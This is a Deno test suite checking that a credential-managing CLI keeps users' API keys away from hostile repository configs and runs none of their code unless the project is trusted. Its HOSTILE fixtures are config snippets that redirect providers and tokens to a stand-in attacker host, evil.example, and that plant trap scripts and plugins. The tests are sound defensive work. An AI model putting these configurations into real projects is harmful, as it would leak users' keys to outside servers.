import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { type Home, spells, tempHome } from "./_credential_home.ts";

const KEY = "sk-canary-of-the-user-5f4e3d2c1b";
const EVIL = "https://evil.example";
const ENV = { OPENAI_API_KEY: KEY, GITHUB_TOKEN: KEY };

/** All that the process would send, in place of the network: nothing answers. */
function spiedNetwork() {
  const original = globalThis.fetch;
  const sent: { readonly origin: string; readonly headers: string; readonly url: string }[] = [];
  globalThis.fetch = (input, init) => {
    const request = new Request(input, init);
    const { origin } = new URL(request.url);
    sent.push({ origin, url: request.url, headers: JSON.stringify([...request.headers]) });
    return Promise.reject(new TypeError("fetch failed"));
  };
  return { sent, [Symbol.dispose]: () => void (globalThis.fetch = original) };
}

/** A module that leaves a trace when it is run, and a program that does. */
function traps(home: Home): { readonly module: string; readonly program: string; sprung(): string[] } {
  const trace = (name: string) => `${home.path}/sprung-${name}`;
  const module = `${home.project}/trap.ts`;
  Deno.writeTextFileSync(
    module,
    `Deno.writeTextFileSync(${JSON.stringify(trace("module"))}, "");\nexport default {};\n`,
  );
  const program = `${home.project}/trap.sh`;
  Deno.writeTextFileSync(program, `#!/bin/sh\ntouch ${trace("program")}\necho ${KEY}\n`, { mode: 0o700 });
  return {
    module,
    program,
    sprung: () => [...Deno.readDirSync(home.path)].map(({ name }) => name).filter((name) => name.startsWith("sprung")),
  };
}

/** Files that a hostile repository could have; the user has `openai/work` in a file of their own. */
const HOSTILE: { readonly [what: string]: string } = {
  "a provider of its own, with the user's key": `[providers.evil]
kind = "openai"
base_url = "${EVIL}/v1"
credential = "openai/work"
`,
  "the user's provider at its own server": `[providers.openai]
base_url = "${EVIL}/v1"
credential = "openai/work"
[aliases.providers]
evil = "openai"
`,
  "variables of the user's for its own server": `[providers.evil]
kind = "openai"
base_url = "${EVIL}/v1"
[credentials."evil/default"]
env = "GITHUB_TOKEN"
hosts = ["${EVIL}"]
[aliases.providers]
openai = "evil"
`,
  "an endpoint at its own server": `[[endpoints]]
key = "a/b@evil"
base_url = "${EVIL}/v1"
credential = "openai/work"
[defaults]
model = "a/b@evil"
`,
  "a command": `[providers.evil]
kind = "openai"
credential = "evil/default"
[credentials."evil/default"]
command = ["./trap.sh"]
`,
  "a plugin": 'plugins = ["./trap.ts"]\n',
  "policies": '[routing]\npolicies = ["./trap.ts"]\npolicy = "trap"\n',
  "trust in itself": `plugins = ["./trap.ts"]\n[trust]\nprojects = ["/", "~/"]\n[defaults]\ncredential_log = false\n`,
};

const COMMANDS: readonly (readonly string[])[] = [
  ["config", "check"],
  ["config", "show", "--explain"],
  ["credential", "list", "--run", "--all"],
  ["credential", "test"],
  ["credential", "test", "openai/work"],
  ["credential", "test", "evil/default"],
  ["provider", "list"],
  ["provider", "health"],
  ["provider", "health", "evil"],
  ["provider", "health", "evil", "--call", "--model", "a/b"],
  ["catalog", "refresh"],
  ["catalog", "refresh", "evil", "--force"],
  ["model", "list", "--refresh"],
  ["model", "switch", "a/b@evil", "--dry-run"],
  ["route", "explain", "a/b"],
  ["routing", "policy", "trap"],
  ["sweep", "run", "plan.toml", "--mode", "record", "--allow-live-in-ci"],
];

const PLAN = `name = "stolen"
[[endpoints]]
key = "a/b@evil"
price = { input_per_1m_usd = "1", output_per_1m_usd = "2" }
[prompts]
items = [{ prompt = "one" }]
[run]
max_tries = 1
cassette = "tape.jsonl"
`;

for (const [what, toml] of Object.entries(HOSTILE)) {
  Deno.test({
    name: `a repository with ${what} gets no key and runs nothing, whatever is run in it`,
    ignore: Deno.build.os === "windows",
    async fn() {
      using home = tempHome();
      using network = spiedNetwork();
      const trap = traps(home);
      await home.run(["credential", "set", "openai/work"], { stdin: [`${KEY}\n`] });
      await Deno.writeTextFile(`${home.project}/tapedeck.toml`, toml);
      await Deno.writeTextFile(`${home.project}/plan.toml`, PLAN);
      const env = { ...ENV, TAPEDECK_CATALOG: `${home.path}/catalog.sqlite` };
      for (const args of COMMANDS) {
        const { stdout, stderr } = await home.run(args, { env, stdin: [] });
        assertEquals(spells(stdout + stderr, KEY), false, args.join(" "));
        assertEquals(trap.sprung(), [], args.join(" "));
      }
      const stolen = network.sent.filter(({ origin, headers, url }) =>
        origin !== "https://api.openai.com" && origin !== "https://models.github.ai" && spells(headers + url, KEY)
      );
      assertEquals(stolen.map(({ url }) => url), []);
    },
  });
}

Deno.test({
  name: "what a project asks for is shown, allowed and taken back",
  ignore: Deno.build.os === "windows",
  async fn() {
    using home = tempHome();
    using network = spiedNetwork();
    const trap = traps(home);
    const toml = HOSTILE["a provider of its own, with the user's key"] +
      `[credentials."evil/default"]\ncommand = ["${trap.program}", "--now"]\n[routing]\npolicies = ["./trap.ts"]\n`;
    await Deno.writeTextFile(`${home.project}/tapedeck.toml`, toml);
    await home.run(["credential", "set", "openai/work"], { stdin: [`${KEY}\n`] });
    const health = async () => (await home.run(["provider", "health", "evil", "--json"])).stdout;
    const asked = async () => {
      network.sent.length = 0;
      await health();
      return network.sent.some(({ origin, headers }) => origin === EVIL && spells(headers, KEY));
    };
    const shown = await home.run(["config", "trust", "--dry-run"]);
    for (const part of ["may neither", "trap.sh --now", `has evil at ${EVIL}/v1`, "runs the policies of"]) {
      assertStringIncludes(shown.stdout, part);
    }
    assertStringIncludes(await health(), "tapedeck config trust");
    assertEquals(await asked(), false);

    const { code, stdout } = await home.run(["config", "trust"]);
    assertEquals([code, stdout.includes("may run code and say where keys go")], [0, true]);
    assertStringIncludes(await Deno.readTextFile(home.config), '"~/project"');
    assertEquals(await asked(), true);
    await home.run(["provider", "health", "evil", "--call", "--model", "a/b"]);
    const log = JSON.parse((await home.run(["credential", "log", "--json"])).stdout);
    assertEquals(JSON.stringify(log).includes('"host":"evil.example"'), true, JSON.stringify(log));

    assertEquals((await home.run(["config", "trust", "--remove"])).stdout.includes("may neither"), true);
    assertEquals(await asked(), false);
    const { code: none, stderr } = await home.run(["config", "trust", ".."]);
    assertEquals([none, stderr.includes("there is no tapedeck.toml here")], [2, true]);
    assert(trap.sprung().length === 0);
  },
});

Deno.test("a plan of another folder has its own project's trust, and not that of where it is run", async () => {
  using home = tempHome();
  using network = spiedNetwork();
  const repository = `${home.path}/repository`;
  await Deno.mkdir(repository);
  await Deno.writeTextFile(
    `${repository}/tapedeck.toml`,
    HOSTILE["variables of the user's for its own server"]
      .replace('[credentials."evil/default"]', 'credential = "evil/default"\n[credentials."evil/default"]'),
  );
  await Deno.writeTextFile(`${repository}/plan.toml`, PLAN);
  const args = ["sweep", "run", `${repository}/plan.toml`, "--mode", "record", "--allow-live-in-ci"];
  const { code, stderr } = await home.run(args, { env: ENV });
  assertEquals([code === 0, network.sent.filter(({ headers }) => spells(headers, KEY))], [false, []], stderr);
  assertStringIncludes(stderr, "tapedeck config trust");
  const trusted = await home.run(args, { env: { ...ENV, TAPEDECK_TRUST: repository } });
  assertEquals(
    network.sent.some(({ origin, headers }) => origin === EVIL && spells(headers, KEY)),
    true,
    trusted.stderr,
  );
});
